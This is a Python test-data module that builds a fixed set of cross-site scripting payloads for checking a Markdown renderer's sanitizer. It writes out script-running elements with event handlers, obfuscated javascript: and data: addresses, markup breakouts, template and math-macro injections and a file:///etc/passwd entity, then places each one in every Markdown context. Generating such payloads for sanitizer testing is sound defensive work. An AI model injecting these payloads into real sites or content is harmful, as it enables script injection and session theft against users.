"""Markdown that tries to run script: payloads in every place that Markdown has for text, addresses and names.

The set is made by rules, so it is the same on every machine: elements with event handlers, spellings of addresses that run
script, and markup that breaks out of its place, each in every context. `cases()` has them all.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

SCRIPT = "window.hurt=1"

ELEMENTS = (
    "img src=x", "svg", "body", "iframe src=x", "video src=x", "audio src=x", "input autofocus", "details open",
    "marquee", "object data=x", "embed src=x", "math", "a href=x", "form action=x", "button autofocus",
    "select autofocus", "textarea autofocus", "style", "link rel=stylesheet href=x", "source src=x", "x-y",
    "custom tabindex=1", "table background=x", "xmp",
)  # fmt: skip
HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart", "onbegin", "ONCLICK")
SEPARATORS = (" ", "/", "\t", "\n")

SCHEMES = (
    "javascript:{0}", "JaVaScRiPt:{0}", " javascript:{0}", "java\tscript:{0}", "java\nscript:{0}", "\x01javascript:{0}",
    "&#106;avascript:{0}", "&#x6A;avascript:{0}", "javascript&colon;{0}", "java&Tab;script:{0}", "java&NewLine;script:{0}",
    "%6Aavascript:{0}", "javascript%3A{0}", "\\javascript:{0}", "javascript\\:{0}", "javascript:%22;{0}//", "javascript://%0A{0}",
    "javascript:/*-/*`/*\\`/*'/*\"/**/(/* */{0} )//", "vbscript:{0}", "VBSCRIPT:{0}", "livescript:{0}",
    "data:text/html,<script>{0}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={0}>", "DATA:text/html,x", "file:///etc/passwd", "blob:https://e.com/x",
    "view-source:javascript:{0}", "feed:javascript:{0}", "jar:javascript:{0}!/x", "//e.com/%00javascript:{0}",
    "https://e.com/\" onmouseover=\"{0}", "https://e.com/' onmouseover='{0}", "https://e.com/><img src=x onerror={0}>",
    "mailto:a@b.c\" onclick=\"{0}", "https://e.com/`onclick={0}`", "https://e.com/\\\" onclick=\\\"{0}",
)  # fmt: skip

BREAKOUTS = (
    "<script>{0}</script>", "<SCRIPT>{0}</SCRIPT>", "<script src=//e.com/x></script>", "<scr<script>ipt>{0}</script>",
    "</code><script>{0}</script>", "</pre><img src=x onerror={0}>", "--><svg onload={0}>", "]]><svg onload={0}>",
    "<!--<img src=\"--><img src=x onerror={0}>\">", "<![CDATA[<svg onload={0}>]]>", "<?xml <svg onload={0}>?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///x'>]>", "<noscript><p title=\"</noscript><img src=x onerror={0}>\">",
    "<math><mtext><table><mglyph><style><img src=x onerror={0}>", "<svg><style><img src=x onerror={0}></style></svg>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={0}>", "<img src=\"x` `<script>{0}</script>\"` `>",
    "<a href=\"java&#115;cript:{0}\">x</a>", "<a href=\"\x0bjavascript:{0}\">x</a>", "<base href=javascript:{0}//>",
    "<meta http-equiv=refresh content=\"0;url=javascript:{0}\">", "<iframe srcdoc=\"<script>parent.{0}</script>\"></iframe>",
    "<template><script>{0}</script></template>", "<div style=\"background:url(javascript:{0})\">", "\" onmouseover=\"{0}",
    "' onmouseover='{0}", "`onmouseover={0}`", "\\\"><img src=x onerror={0}>", "&lt;img src=x onerror={0}&gt;",
    "&#60;img src=x onerror={0}&#62;", "&amp;lt;script&amp;gt;{0}", "\u2028<script>{0}</script>", "\x00<script>{0}</script>",
    "+ADw-script+AD4-{0}+ADw-/script+AD4-", "\ufeff<img src=x onerror={0}>", "\uff1cscript\uff1e{0}\uff1c/script\uff1e",
    "{{constructor.constructor('{0}')()}}", "${{{0}}}", "<%= {0} %>", "\\unicode{{<img src=x onerror={0}>}}",
    "\\href{{javascript:{0}}}{{x}}", "\\url{{javascript:{0}}}", "\\text{{<img src=x onerror={0}>}}",
    "\\class{{x\" onclick=\"{0}}}{{y}}", "\\style{{background:url(javascript:{0})}}{{y}}", "\\htmlData{{x={0}}}{{y}}",
    "__proto__", "constructor", "[x][__proto__]", "<x {0}", "<" * 50 + "img src=x onerror={0}>",
)  # fmt: skip

CONTEXTS = (
    "{0}", "text {0} text", "# {0}", "{0}\n===", "- {0}", "1. {0}", "- [x] {0}", "> {0}", "**{0}**", "~~{0}~~", "`{0}`",
    "```\n{0}\n```", "```{0}\ncode\n```", "~~~html {0}\ncode\n~~~", "    {0}", "```mermaid\ngraph TD; A[{0}]\n```",
    "| a |\n|---|\n| {0} |", "| {0} |\n|:-:|\n| a |", "[{0}](https://e.com)", "[a]({0})", "[a](<{0}>)",
    "[a](https://e.com \"{0}\")", "![{0}](https://e.com/a.png)", "![a]({0})", "![a](<{0}>)", "<{0}>",
    "[a][r]\n\n[r]: {0}", "[a][r]\n\n[r]: <{0}> \"{0}\"", "[{0}]\n\n[{0}]: https://e.com", "a[^1]\n\n[^1]: {0}",
    "a[^{0}]\n\n[^{0}]: b", "${0}$", "$$\n{0}\n$$", "\\({0}\\)", "\\[{0}\\]", "<div>\n{0}\n</div>", "a<br>{0}",
    "https://e.com/{0}", "[![{0}]({0})]({0})",
)  # fmt: skip


def payloads() -> Iterator[str]:
    """What would run script if it were taken as markup, or as an address that is followed."""
    for number, (element, handler) in enumerate(product(ELEMENTS, HANDLERS)):
        name, _, attributes = element.partition(" ")
        separator = SEPARATORS[number % len(SEPARATORS)]
        yield f"<{name}{separator}{attributes}{separator}{handler}={SCRIPT}>"
    for template in (*SCHEMES, *BREAKOUTS):
        yield template.replace("{0}", SCRIPT).replace("{{", "{").replace("}}", "}")


def cases() -> list[str]:
    """Every payload in every context."""
    return [context.replace("{0}", payload) for payload, context in product(payloads(), CONTEXTS)]
